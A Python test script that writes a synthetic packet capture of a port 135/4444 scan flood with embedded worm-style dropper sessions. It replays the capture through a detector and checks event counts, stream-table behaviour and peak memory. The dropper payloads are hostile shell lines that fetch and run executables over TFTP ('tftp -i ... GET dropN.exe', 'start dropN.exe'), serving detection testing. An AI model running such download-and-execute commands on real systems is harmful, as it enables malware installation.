#!/usr/bin/python3
"""A scan flood with dropper sessions in the middle.

    test_flood.py WORMSNARE [SYNS]

Writes a capture (plain struct packing, no scapy) holding SYNS SYNs (default
120000) to ports 135 and 4444 from 6000 sources, 3000 connections to 4444
that send a few bytes without a newline and never close, 20 dropper
sessions spread through it, and one stream of 100 MB without a newline
followed by a command; then ONE_SEG one-segment sources (SYN, SYN/ACK, one
segment without a newline, to 4444 and 135) with 10 more dropper sessions whose
lines are spread through them. Replays it with max_streams 1024, so the table
overflows many times, and checks: every dropper session's three events are
there, the flood created no events, no one-segment source became a stream
(they stay in the screening table), and peak RSS stays under the bound.
Prints the numbers. bench/run --flood runs the full million with the default
config.
"""
import os
import resource
import struct
import subprocess
import sys
import tempfile

RSS_BOUND_KB = 64 * 1024
LONG_MB = 100
TINY = 1000000
ONE_SEG = 100000


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def frame(src, dst, sport, dport, seq, ack, flags, payload=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64, 6, 0,
                     src.to_bytes(4, "big"), dst.to_bytes(4, "big"))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\x00\x0c\x29\x44\x55\x66\x00\x0c\x29\x11\x22\x33\x08\x00" + ip + tcp


class Writer:
    def __init__(self, path):
        self.f = open(path, "wb")
        self.f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        self.t = 1061301600.0
        self.n = 0

    def put(self, data):
        self.t += 0.0001
        sec = int(self.t)
        self.f.write(struct.pack("<IIII", sec, int((self.t - sec) * 1e6), len(data), len(data)))
        self.f.write(data)
        self.n += 1


SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01


def dropper(w, k):
    cli, srv, cp = 0x51840000 + k, 0x0a0a0000 + k, 20000 + k
    c, s = 1000, 5000
    w.put(frame(cli, srv, cp, 4444, c, 0, SYN))
    w.put(frame(srv, cli, 4444, cp, s, c + 1, SYN | ACK))
    w.put(frame(cli, srv, cp, 4444, c + 1, s + 1, ACK))
    c += 1
    for line in (b"tftp -i 81.132.0.%d GET drop%d.exe\n" % (k, k), b"start drop%d.exe\n" % k,
                 b"drop%d.exe\n" % k):
        w.put(frame(cli, srv, cp, 4444, c, s + 1, PSH | ACK, line))
        c += len(line)
    w.put(frame(cli, srv, cp, 4444, c, s + 1, FIN | ACK))


def slow_dropper(k):
    """A dropper session yielding one step at a time: handshake, banner, each line."""
    cli, srv, cp = 0x51870000 + k, 0x0a0d0000 + k, 20000 + k
    c, s = 1000, 5000
    yield [frame(cli, srv, cp, 4444, c, 0, SYN), frame(srv, cli, 4444, cp, s, c + 1, SYN | ACK),
           frame(cli, srv, cp, 4444, c + 1, s + 1, ACK)]
    c, s = c + 1, s + 1
    banner = b"Microsoft Windows 2000 [Version 5.00.2195]\r\nC:\\WINNT\\system32>"
    yield [frame(srv, cli, 4444, cp, s, c, PSH | ACK, banner)]
    s += len(banner)
    for line in (b"tftp -i 81.132.0.%d GET drop%d.exe\n" % (k, k), b"start drop%d.exe\n" % k,
                 b"drop%d.exe\n" % k):
        half = len(line) // 2
        yield [frame(cli, srv, cp, 4444, c, s, PSH | ACK, line[:half])]
        yield [frame(cli, srv, cp, 4444, c + half, s, PSH | ACK, line[half:]),
               frame(srv, cli, 4444, cp, s, c + len(line), ACK)]
        c += len(line)
    yield [frame(cli, srv, cp, 4444, c, s, FIN | ACK)]


def main():
    ws = sys.argv[1]
    syns = int(sys.argv[2]) if len(sys.argv) > 2 else 120000
    tmp = tempfile.mkdtemp(prefix="ws-flood-")
    path = os.path.join(tmp, "flood.pcap")
    w = Writer(path)
    planted = 20
    step = syns // planted
    for i in range(syns):
        src = 0xc6330000 + i % 6000
        dst = 0x0a000000 + (i * 7) % 65000
        w.put(frame(src, dst, 1024 + i % 60000, 135 if i & 1 else 4444, i * 1000, 0, SYN))
        if i % 40 == 0:          # a connection that sends a little and never closes
            k = i // 40
            cli, srv, cp = 0x64000000 + k, 0x0a200000 + k, 30000 + k % 30000
            w.put(frame(cli, srv, cp, 4444, 7, 0, SYN))
            w.put(frame(srv, cli, 4444, cp, 9, 8, SYN | ACK))
            w.put(frame(cli, srv, cp, 4444, 8, 10, ACK))
            w.put(frame(cli, srv, cp, 4444, 8, 10, PSH | ACK, b"dir c:\\"))
        if i % step == step // 2:
            dropper(w, i // step)
    # one stream sends 100 MB without a newline, then a command
    cli, srv, cp, c = 0x51850001, 0x0a0b0001, 40001, 1001
    w.put(frame(cli, srv, cp, 4444, c - 1, 0, SYN))
    w.put(frame(srv, cli, 4444, cp, 4999, c, SYN | ACK))
    w.put(frame(cli, srv, cp, 4444, c, 5000, ACK))
    junk = b"A" * 1400
    for _ in range(LONG_MB * 1024 * 1024 // 1400):
        w.put(frame(cli, srv, cp, 4444, c, 5000, ACK, junk))
        c = (c + 1400) & 0xffffffff
    tail = b"\ntftp -i 81.133.0.1 GET after.exe\n"
    w.put(frame(cli, srv, cp, 4444, c, 5000, PSH | ACK, tail))
    # one stream of a million one-byte segments: many short lines, then a command
    cli, srv, cp, c = 0x51860001, 0x0a0c0001, 40002, 1001
    w.put(frame(cli, srv, cp, 4444, c - 1, 0, SYN))
    w.put(frame(srv, cli, 4444, cp, 4999, c, SYN | ACK))
    w.put(frame(cli, srv, cp, 4444, c, 5000, ACK))
    text = b"ab\n" * (TINY // 3) + b"tftp -i 81.133.0.2 GET tiny.exe\n"
    for i in range(len(text)):
        w.put(frame(cli, srv, cp, 4444, c + i, 5000, ACK, text[i:i + 1]))
    # one-segment sources, with slow dropper sessions typing between them
    slow = [slow_dropper(k) for k in range(planted, planted + 10)]
    every = ONE_SEG // (len(slow) * 8)
    for i in range(ONE_SEG):
        src, dst, sp = 0x0b000000 + i, 0x0a300000 + i % 50000, 1024 + i % 60000
        dp = 4444 if i & 1 else 135
        w.put(frame(src, dst, sp, dp, 77, 0, SYN))
        w.put(frame(dst, src, dp, sp, 99, 78, SYN | ACK))
        w.put(frame(src, dst, sp, dp, 78, 100, PSH | ACK, b"\x90" * (8 + i % 50)))
        if i % every == 0:
            for pkt in next(slow[(i // every) % len(slow)], []):
                w.put(pkt)
    for gen in slow:
        for pkts in gen:
            for pkt in pkts:
                w.put(pkt)
    w.f.close()
    cfg = os.path.join(tmp, "ws.yaml")
    with open(cfg, "w") as f:
        f.write("reassembly:\n  max_streams: 1024\n")
    out = os.path.join(tmp, "out")
    r = subprocess.run([ws, "-r", path, "-c", cfg, "-o", out], capture_output=True, text=True)
    rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    rows = open(os.path.join(out, "blasterlog.txt")).read().splitlines()[1:]
    stats = [l for l in r.stderr.splitlines()
             if "streams" in l or "evictions" in l or "normalizer" in l]
    files = {row.split("\t")[3] for row in rows}
    want = {"drop%d.exe" % k for k in range(planted + 10)} | {"after.exe", "tiny.exe"}
    ok = (r.returncode == 0 and len(rows) == 3 * (planted + 10) + 2 and files == want)
    promoted = [int(x.split("promoted ")[1].split(",")[0]) for x in r.stderr.splitlines()
                if "promoted " in x]
    streams_ok = bool(promoted) and promoted[0] <= planted + 10 + 3000 + 2
    print("flood: %d packets (%d SYNs to 135/4444, %d never-closing connections), "
          "%d dropper sessions" % (w.n, syns, syns // 40, planted))
    print("flood: plus one stream of %d MB without a newline, then a command, and one of "
          "%d one-byte segments" % (LONG_MB, TINY))
    print("flood: plus %d one-segment sources (SYN, SYN/ACK, one segment) with 10 slow "
          "dropper sessions typing between them" % ONE_SEG)
    print("flood: %d events (want %d), peak RSS %.1f MB (bound %d MB), flows promoted to "
          "streams %s (at most %d: no one-segment source)"
          % (len(rows), 3 * (planted + 10) + 2, rss / 1024, RSS_BOUND_KB // 1024,
             promoted[0] if promoted else "?", planted + 10 + 3000 + 2))
    for l in stats:
        print("  " + l)
    if not ok:
        print("FAIL: events missing or wrong", r.returncode, sorted(want - files)[:5])
    if not streams_ok:
        print("FAIL: one-segment sources became streams")
        ok = False
    if os.environ.get("WS_SANITIZE") == "1":
        print("flood: peak RSS not checked (a sanitizer build: ASan's quarantine keeps freed memory)")
    elif rss > RSS_BOUND_KB:
        print("FAIL: peak RSS above the bound")
        ok = False
    subprocess.run(["rm", "-rf", tmp])
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
